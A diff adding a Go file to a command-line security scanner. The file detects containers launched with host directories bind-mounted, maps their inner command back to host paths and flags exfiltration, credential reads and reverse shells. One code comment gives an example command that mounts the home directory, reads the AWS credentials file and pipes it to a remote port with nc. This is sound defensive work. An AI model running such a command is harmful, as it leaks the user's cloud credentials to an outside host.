@@ -1,0 +1,182 @@
+package heuristics
+
+import (
+	"strings"
+
+	"github.com/parapet-dev/parapet/rules/shell"
+)
+
+// The command a container runs on the host's files. docker run -v
+// $HOME:/h alpine sh -c 'cat /h/.aws/credentials | nc host 9000' reads
+// the host's credentials and sends them away, though no host path is in
+// the command. checkContainerCommand rewrites the container's paths
+// under its bind mounts to the host paths they are, judges the command
+// as a script, and keeps what it finds about data: secrets read,
+// exfiltration, reverse shells. What the command does to the
+// container's own files stays in the container and is not judged here.
+
+// containerRun returns the bind mounts (host source → container target)
+// and the command of docker / podman / nerdctl run, or ok false.
+func containerRun(v *cmdView) (mounts [][2]string, command string, ok bool) {
+	sub, args := dockerSubcommand(v.args)
+	if sub != "run" && sub != "create" {
+		return nil, "", false
+	}
+	entry := ""
+	addMount := func(spec string) {
+		src, dst, _ := strings.Cut(spec, ":")
+		if strings.Contains(spec, "=") { // --mount type=bind,source=…,target=…
+			src, dst = "", ""
+			for _, kv := range strings.Split(spec, ",") {
+				k, val, _ := strings.Cut(kv, "=")
+				switch k {
+				case "source", "src":
+					src = val
+				case "target", "dst", "destination":
+					dst = val
+				}
+			}
+		}
+		dst, _, _ = strings.Cut(dst, ":") // :ro, :z
+		switch src {
+		case "$PWD", "${PWD}", "$(pwd)", "`pwd`":
+			src = "." // the directory the line runs in
+		}
+		if src != "" && dst != "" && (src[0] == '/' || src[0] == '~' || src[0] == '$' || src[0] == '.') {
+			mounts = append(mounts, [2]string{src, strings.TrimSuffix(dst, "/")})
+		}
+	}
+	i := 0
+	for ; i < len(args); i++ {
+		a := args[i]
+		if a == "--" {
+			i++
+			break
+		}
+		if !strings.HasPrefix(a, "-") {
+			break // the image
+		}
+		name, val, hasVal := strings.Cut(a, "=")
+		if !hasVal && containerValueFlag(name) && i+1 < len(args) {
+			i++
+			val = args[i]
+		}
+		switch name {
+		case "-v", "--volume":
+			addMount(val)
+		case "--mount":
+			addMount(val)
+		case "--entrypoint":
+			entry = val
+		}
+	}
+	if len(mounts) == 0 || i >= len(args) {
+		return nil, "", false
+	}
+	argv := args[i+1:]
+	switch {
+	case entry != "":
+		argv = append([]string{entry}, argv...)
+	case len(argv) > 0 && strings.HasPrefix(argv[0], "-"):
+		// Options first: the image's own entrypoint takes them, and a tool
+		// image is named after its tool (curlimages/curl).
+		image := baseName(args[i])
+		image, _, _ = strings.Cut(image, ":")
+		image, _, _ = strings.Cut(image, "@")
+		argv = append([]string{image}, argv...)
+	}
+	if len(argv) == 0 {
+		return nil, "", false
+	}
+	if len(argv) >= 3 && (baseName(argv[0]) == "sh" || baseName(argv[0]) == "bash" || baseName(argv[0]) == "ash") && argv[1] == "-c" {
+		return mounts, argv[2], true
+	}
+	parts := make([]string, len(argv))
+	for k, a := range argv {
+		parts[k] = shellQuote(a)
+	}
+	return mounts, strings.Join(parts, " "), true
+}
+
+// containerValueFlag reports docker run options that take a value in
+// the next word.
+func containerValueFlag(name string) bool {
+	switch name {
+	case "-v", "--volume", "--mount", "-e", "--env", "--env-file", "-w", "--workdir", "-u", "--user", "-p", "--publish",
+		"--name", "--network", "--net", "--entrypoint", "-h", "--hostname", "-l", "--label", "-m", "--memory", "--cpus",
+		"--platform", "--pull", "--restart", "--pid", "--ipc", "--uts", "--userns", "--cap-add", "--cap-drop", "--device",
+		"--add-host", "--dns", "--log-driver", "--log-opt", "--security-opt", "--tmpfs", "--ulimit", "--shm-size",
+		"--runtime", "--gpus", "--cgroupns", "--volumes-from", "--link", "--expose", "--label-file", "--stop-signal",
+		"--health-cmd", "--group-add", "--sysctl", "--storage-opt", "-a", "--attach", "--cidfile", "--ip", "--mac-address":
+		return true
+	}
+	return false
+}
+
+// hostPaths rewrites the container paths of command that lie under a
+// bind mount's target to the host paths they are.
+func hostPaths(command string, mounts [][2]string) string {
+	for _, m := range mounts {
+		src, dst := m[0], m[1]
+		if dst == "" || dst == "/" {
+			continue
+		}
+		var b strings.Builder
+		rest := command
+		for {
+			j := strings.Index(rest, dst)
+			if j < 0 {
+				b.WriteString(rest)
+				break
+			}
+			end := j + len(dst)
+			before := byte(' ')
+			if j > 0 {
+				before = rest[j-1]
+			}
+			after := byte(' ')
+			if end < len(rest) {
+				after = rest[end]
+			}
+			b.WriteString(rest[:j])
+			if strings.IndexByte(" \t'\"=:@,(<>|;&", before) >= 0 && strings.IndexByte("/ \t'\"):;|&<>", after) >= 0 {
+				b.WriteString(strings.TrimSuffix(src, "/"))
+			} else {
+				b.WriteString(dst)
+			}
+			rest = rest[end:]
+		}
+		command = b.String()
+	}
+	return command
+}
+
+// checkContainerCommand judges what a container run with bind mounts
+// does to the host's data through them.
+func (s *scan) checkContainerCommand(v *cmdView) {
+	if s.nested >= maxNested {
+		return
+	}
+	mounts, command, ok := containerRun(v)
+	if !ok {
+		return
+	}
+	src := hostPaths(command, mounts)
+	inner := scan{an: s.an, act: s.act, collectOnly: true, nested: s.nested + 1, ctx: s.ctx}
+	sc := shell.Parse(src)
+	buf := getViews()
+	cs := newCmdScan(sc, s.act, buf)
+	inner.commandRules(&cs, src)
+	putViews(buf)
+	sc.Release()
+	for _, f := range inner.findings {
+		switch f.Category {
+		case CategoryExfiltration, CategoryCredentialAccess, CategorySecrets, CategoryReverseShell, CategoryCloudSecrets:
+		default:
+			continue
+		}
+		if r, ok := ruleByID[f.RuleID]; ok {
+			s.add(r, "runs in a container with host directories mounted, and its command "+f.Message, f.Evidence)
+		}
+	}
+}
